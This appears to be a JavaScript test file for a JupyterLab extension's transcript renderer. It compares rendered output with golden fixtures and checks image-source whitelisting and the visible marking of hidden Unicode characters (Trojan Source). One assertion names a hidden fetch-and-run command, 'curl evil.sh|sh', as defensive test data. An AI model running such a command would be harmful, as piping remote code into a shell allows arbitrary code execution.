// Golden tests: the labextension's renderer (src/render.ts, compiled by tsconfig.test.json)
// under jsdom shows what tests/fixtures/transcripts/*.view.json say, the same goldens the
// Python fallback is checked against (tests/contract/test_transcript_goldens.py).
'use strict';

const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { test } = require('node:test');
const { JSDOM } = require('jsdom');

const dom = new JSDOM('<!doctype html><html><body></body></html>');
global.document = dom.window.document;

const { renderTranscript, formatDuration } = require('../lib-test/render.js');
const { viewOf } = require('./view.js');

const FIXTURES = path.resolve(__dirname, '..', '..', 'tests', 'fixtures', 'transcripts');
// The page's sanitizer is JupyterLab's; here the HTML goes in as it is (only text is compared).
const TOOLS = { sanitizer: { sanitize: html => html }, markdown: null };

const names = fs
  .readdirSync(FIXTURES)
  .filter(name => name.endsWith('.json') && !name.endsWith('.view.json'))
  .sort();

test('there are fixtures', () => {
  assert.ok(names.length >= 10, `only ${names.length} fixtures in ${FIXTURES}`);
});

for (const name of names) {
  test(`${name} shows what its golden says`, () => {
    const data = JSON.parse(fs.readFileSync(path.join(FIXTURES, name), 'utf8'));
    const golden = JSON.parse(fs.readFileSync(path.join(FIXTURES, name.replace(/\.json$/, '.view.json')), 'utf8'));
    const root = renderTranscript(data, TOOLS, []);
    assert.deepEqual(viewOf(root), golden);
  });
}

test('an image element never gets a source outside the whitelist', () => {
  const data = JSON.parse(fs.readFileSync(path.join(FIXTURES, 'images.json'), 'utf8'));
  const root = renderTranscript(data, TOOLS, []);
  const images = Array.from(root.querySelectorAll('img'));
  assert.ok(images.length > 0, 'images.json shows no image: the check below would check nothing');
  for (const img of images) {
    assert.match(img.getAttribute('src'), /^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/);
  }
});

test('hidden characters are markers, never in the DOM (Trojan Source)', () => {
  const data = JSON.parse(fs.readFileSync(path.join(FIXTURES, 'hidden_chars.json'), 'utf8'));
  const root = renderTranscript(data, TOOLS, []);
  const text = root.textContent;
  // bidi controls, zero-width, tag characters, ESC and a bare CR
  assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069\u200b\u001b]|\r(?!\n)|\u{e0063}/u);
  const markers = Array.from(root.querySelectorAll('.jp-nbtools-hidden'));
  const rlo = markers.find(m => m.textContent === '⟨U+202E⟩');
  assert.equal(rlo.title, 'U+202E RIGHT-TO-LEFT OVERRIDE');
  assert.ok(markers.some(m => m.textContent === '⟨tags "curl evil.sh|sh"⟩'));
  // ordinary non-ASCII text is left alone
  const last = root.querySelectorAll('[data-nbt-item="tool"]')[3];
  assert.equal(last.querySelectorAll('.jp-nbtools-hidden').length, 0);
  assert.match(last.textContent, /café 中文 😀 ❤️ שלום مرحبا/);
});

test('the same code points are marked as in Python (tests/contract/test_visible_parity.py)', () => {
  const { hiddenCodePoints } = require('../lib-test/visible.js');
  const ranges = JSON.parse(fs.readFileSync(path.join(FIXTURES, '..', 'hidden_codepoints.json'), 'utf8'));
  const expected = [];
  for (const [a, b] of ranges) {
    for (let cp = a; cp <= b; cp++) {
      expected.push(cp);
    }
  }
  assert.deepEqual(hiddenCodePoints(), expected);
});

test('a transcript kind this version does not know is skipped', () => {
  const data = {
    version: 1, model: 'm', stop_reason: 'end_turn', error: null, turns: 1,
    items: [{ kind: 'hologram', text: 'from the future' }, { kind: 'assistant', text: 'hi' }],
    usage: {}
  };
  const view = viewOf(renderTranscript(data, TOOLS, []));
  assert.deepEqual(view.items.map(i => i.kind), ['assistant']);
});

test('formatDuration rounds in integers', () => {
  assert.equal(formatDuration(0.0125), '13 ms');
  assert.equal(formatDuration(0.9996), '1.0 s');
  assert.equal(formatDuration(59.96), '1 min 0 s');
  assert.equal(formatDuration(-1), '');
});
